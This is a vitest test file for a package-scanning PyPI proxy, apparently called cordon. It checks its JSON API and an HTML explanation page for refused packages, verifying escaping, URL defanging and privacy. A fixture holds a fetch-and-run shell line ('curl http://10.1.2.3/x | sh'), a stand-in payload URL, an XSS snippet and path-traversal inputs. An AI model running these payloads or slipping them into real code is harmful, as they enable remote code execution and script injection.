import { createHash } from 'node:crypto';
import request from 'supertest';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../src/analysis/report/finding.ts';
import type { HttpSettings } from '../../src/http/deps.ts';
import { MALWARE } from '../fakes/fake-judge.ts';
import { askRaw, type HttpWorld, makeHttpWorld } from '../support/http-world.ts';
import { makeFinding, makeReport, makeStoredFile, PYPI } from '../support/stored-facts.ts';

describe('the JSON API', () => {
  const document = {
    info: { name: 'six', version: '1.0' },
    releases: { '1.0': [{ filename: 'six-1.0.tar.gz', url: makeStoredFile('six-1.0.tar.gz').file.url }] },
    urls: [{ filename: 'six-1.0.tar.gz', url: makeStoredFile('six-1.0.tar.gz').file.url }],
  };

  async function makeWorld(
    settings: Partial<HttpSettings> = { publicUrl: 'http://cordon.example' },
  ): Promise<HttpWorld> {
    const world = makeHttpWorld(settings);
    await world.announce({ 'six-1.0.tar.gz': {} });
    world.source.documents.set('six', document).set('six/1.0', document);
    return world;
  }

  test('names files by absolute URLs below the public one', async () => {
    const world = await makeWorld({ publicUrl: 'https://pypi.example/cordon' });

    const answer = await request(world.app).get('/pypi/six/json');

    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('application/json');
    expect((answer.body as typeof document).urls[0]?.url).toMatch(
      /^https:\/\/pypi\.example\/cordon\/packages\/aa\/bb\//,
    );
  });

  test('asks the upstream once while it is fresh, and shows another verdict at once', async () => {
    const world = await makeWorld();

    await request(world.app).get('/pypi/six/json');
    const again = await request(world.app).get('/pypi/six/json');
    expect(world.source.asked).toEqual(['six']);

    world.judge.set('six-1.0.tar.gz', MALWARE);
    const refused = await request(world.app).get('/pypi/six/json');
    expect(refused.headers['etag']).not.toBe(again.headers['etag']);
    expect(refused.body).toMatchObject({ urls: [{ yanked: true }], info: { yanked: true } });

    world.clock.advance(600_000);
    await request(world.app).get('/pypi/six/json');
    expect(world.source.asked).toEqual(['six', 'six', 'six']);
  });

  test('answers one version, and its ETag with 304', async () => {
    const world = await makeWorld();

    const answer = await request(world.app).get('/pypi/six/1.0/json');
    const etag = answer.headers['etag'] as string;

    expect(answer.body).toMatchObject({ info: { version: '1.0' } });
    expect((await request(world.app).get('/pypi/six/1.0/json').set('If-None-Match', etag)).status).toBe(304);
  });

  test.each([
    ['/pypi/Six/json', 301, '/pypi/six/json'],
    ['/pypi/Six/1.0/json', 301, '/pypi/six/1.0/json'],
    ['/pypi/nothing/json', 404, undefined],
    ['/pypi/six/9.9/json', 404, undefined],
    ['/pypi/six/..%2f..%2fsimple/json', 404, undefined],
    ['/pypi/-/json', 404, undefined],
  ])('%s gives %i', async (path, status, location) => {
    const answer = await askRaw((await makeWorld()).app, path);

    expect(answer.status).toBe(status);
    expect(answer.headers.location).toBe(location);
  });
});

const HOSTILE: Finding = makeFinding({
  severity: 'critical',
  class: 'malware',
  path: 'six/<b>.py',
  message: 'downloads from https://evil.invalid/payload and runs it',
  snippet: '</code><script>alert(1)</script>\u001b[31m\u202e "quoted"',
  decoded: 'import os\nos.system("curl http://10.1.2.3/x | sh")',
  chain: [
    { role: 'context', path: 'setup.py', line: 3, text: 'runs when pip builds the sdist' },
    { role: 'sink', path: 'setup.py', line: 9, text: 'starts a shell', snippet: 'os.system(x)' },
  ],
});

async function explain(settings = {}, verdict = MALWARE) {
  const world = makeHttpWorld(settings);
  const files = await world.announce({ 'six-1.2.3.4.tar.gz': { bytes: 'x', verdict } });
  const file = files['six-1.2.3.4.tar.gz']!;
  await world.deps.store.reports.saveReport(makeReport(file, { findings: [HOSTILE] }), 0, undefined, []);
  const id = await world.deps.store.explanations.getId(file.key);
  const answer = await request(world.app).get(`/b/${id}`).set('Accept', 'text/html');
  return { world, file, id, answer };
}

describe('the explanation page', () => {
  test('says what was found, where, what it decodes to and how one leads to the other', async () => {
    const { answer, file } = await explain();

    expect(answer.status).toBe(200);
    for (const words of [
      'Refused: malware',
      'six 1.2.3.4',
      file.sha256!,
      'six/&lt;b&gt;.py, line 3',
      'When it runs:',
      'runs when pip builds the sdist',
      'starts a shell',
      `cordon allow six --file six-1.2.3.4.tar.gz --sha256 ${file.sha256!}`,
    ]) {
      expect(answer.text).toContain(words);
    }
  });

  test('holds nothing that a browser would run, follow or hide', async () => {
    const { answer } = await explain();

    expect(answer.text).not.toContain('<script');
    // its own address is in the text that asks for a waiver, where nothing follows it
    expect(answer.text.replaceAll(/http:\/\/127\.0\.0\.1:\d+\/b\//g, '')).not.toMatch(/https?:\/\//);
    expect(answer.text).not.toContain('href=');
    expect(answer.text).not.toMatch(/[\u001b\u202e]/);
    expect(answer.text).toContain('hxxps://evil[.]invalid/payload');
    expect(answer.text).toContain('hxxp://10[.]1[.]2[.]3/x');
    expect(answer.text).toContain(
      '&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;\\x1b[31m\\u{202e} &quot;quoted&quot;',
    );
  });

  test('may load nothing: its policy names its one style by digest', async () => {
    const { answer } = await explain();
    const style = /<style>([\s\S]*?)<\/style>/.exec(answer.text)?.[1] ?? '';
    const digest = createHash('sha256').update(style).digest('base64');

    expect(answer.headers['content-security-policy']).toContain(`default-src 'none'; style-src 'sha256-${digest}'`);
    expect(answer.headers).toMatchObject({
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'x-content-type-options': 'nosniff',
      'content-type': 'text/html; charset=utf-8',
    });
  });

  test('never says who else asked', async () => {
    const { world, id, file } = await explain();
    await askRaw(world.app, `/${file.path}`, { headers: { 'User-Agent': 'pip/26.3 SECRET-AGENT' } });

    const answer = await request(world.app).get(`/b/${id}`).set('Accept', 'text/html');

    expect(answer.text).not.toContain('SECRET-AGENT');
    expect(answer.text.replaceAll(/http:\/\/127\.0\.0\.1:\d+\/b\//g, '')).not.toContain('127.0.0.1');
  });

  test("says nothing of a private index's file, in either form", async () => {
    const { world, id, file, answer } = await explain({ privateUpstreams: [PYPI] });
    const json = await request(world.app).get(`/b/${id}`).set('Accept', 'application/json');

    expect([answer.status, json.status]).toEqual([403, 403]);
    expect(answer.text).toContain('comes from a private index');
    for (const text of [answer.text, json.text]) {
      for (const secret of ['evil', 'starts a shell', 'six', file.sha256!, 'downloads a program']) {
        expect(text).not.toContain(secret);
      }
    }
  });

  test('is JSON for programs that ask for it', async () => {
    const { world, id } = await explain();

    const answer = await request(world.app).get(`/b/${id}`).set('Accept', 'application/json');

    expect(answer.headers['content-type']).toBe('application/json');
    expect(answer.headers['vary']).toBe('Accept');
    expect(answer.body).toMatchObject({
      project: 'six',
      filename: 'six-1.2.3.4.tar.gz',
      verdict: { kind: 'refuse', reason: 'malware' },
      title: 'Refused: malware',
      findings: [{ detector: 'start-up-code', path: 'six/<b>.py' }],
    });
  });

  test('offers a text to send, ready to copy by keyboard, and the commands for who decides', async () => {
    const { answer, id, file } = await explain();

    const [wish = '', commands = ''] = [
      ...answer.text.matchAll(/<textarea[^>]* readonly [^>]*>([^<]*)<\/textarea>/g),
    ].map(([, text]) => text);

    expect(wish).toContain(`/b/${id}`);
    expect(wish).toContain(file.sha256!);
    expect(wish).toContain('six-1.2.3.4.tar.gz');
    expect(commands.split('\n')).toEqual([
      `cordon explain ${id}`,
      `cordon allow six --file six-1.2.3.4.tar.gz --sha256 ${file.sha256!} --expires 90d --reason &quot;why&quot;`,
    ]);
    expect(answer.text).not.toContain('<form');
  });

  test('links to where people ask, with the facts filled in and nothing of them obeyed', async () => {
    const support = { email: 'security@example.com', url: 'https://tracker.example/new?id={id}&body={text}&x={other}' };
    const { answer, id } = await explain({ support }, { ...MALWARE, detail: 'a"b<c>&d' });

    const links = [...answer.text.matchAll(/href="([^"]*)"/g)].map(([, link]) => link?.replaceAll('&amp;', '&') ?? '');

    expect(links).toHaveLength(2);
    expect(links[0]).toContain(`https://tracker.example/new?id=${id}&body=Please%20look`);
    expect(links[0]).toContain('&x={other}');
    expect(links[1]).toMatch(/^mailto:security@example\.com\?subject=Cordon%3A%20six-1\.2\.3\.4\.tar\.gz%20/);
    expect(decodeURIComponent(links[1] ?? '')).toContain('a"b<c>&d');
  });

  test.each([
    [
      { kind: 'quarantine', reason: 'cooldown', until: 9, detail: 'younger than 72 hours' } as const,
      'Ask for it now',
      'cordon allow six==1.2.3.4 --expires 7d',
    ],
    [
      { kind: 'refuse', reason: 'deny-entry', entryId: 'ab12', detail: 'denied by ada' } as const,
      'Ask about this decision',
      'cordon remove ab12 --reason',
    ],
    [
      { kind: 'refuse', reason: 'deny-entry', entryId: 'file:3', detail: 'denied by ada' } as const,
      'Ask about this decision',
      'cordon list six',
    ],
  ])('a verdict for $reason is asked for in its own words', async (verdict, title, command) => {
    const { answer } = await explain({}, verdict);

    expect(answer.text).toContain(`<h2>${title}</h2>`);
    expect(answer.text).toContain(command);
    expect(answer.text).not.toContain('cordon remove file:');
  });

  test('offers nothing to ask for where the bytes never came', async () => {
    const { answer } = await explain({}, { kind: 'refuse', reason: 'digest-mismatch', detail: 'other bytes' });

    expect(answer.text).not.toContain('<textarea');
  });

  test('shows the decision as of now', async () => {
    const { world, id } = await explain();
    world.judge.set('six-1.2.3.4.tar.gz', { kind: 'allow', reason: 'waiver', detail: 'ada looked at it' });

    const answer = await request(world.app).get(`/b/${id}`).set('Accept', 'text/html');

    expect(answer.text).toContain('Allowed by a waiver');
    expect(answer.text).not.toContain('Ask for a waiver');
  });

  test.each(['/b/', '/b/unknown23456789', '/b/..%2f..%2fx'])('%s is 404', async (path) => {
    expect((await askRaw(makeHttpWorld().app, path)).status).toBe(404);
  });
});
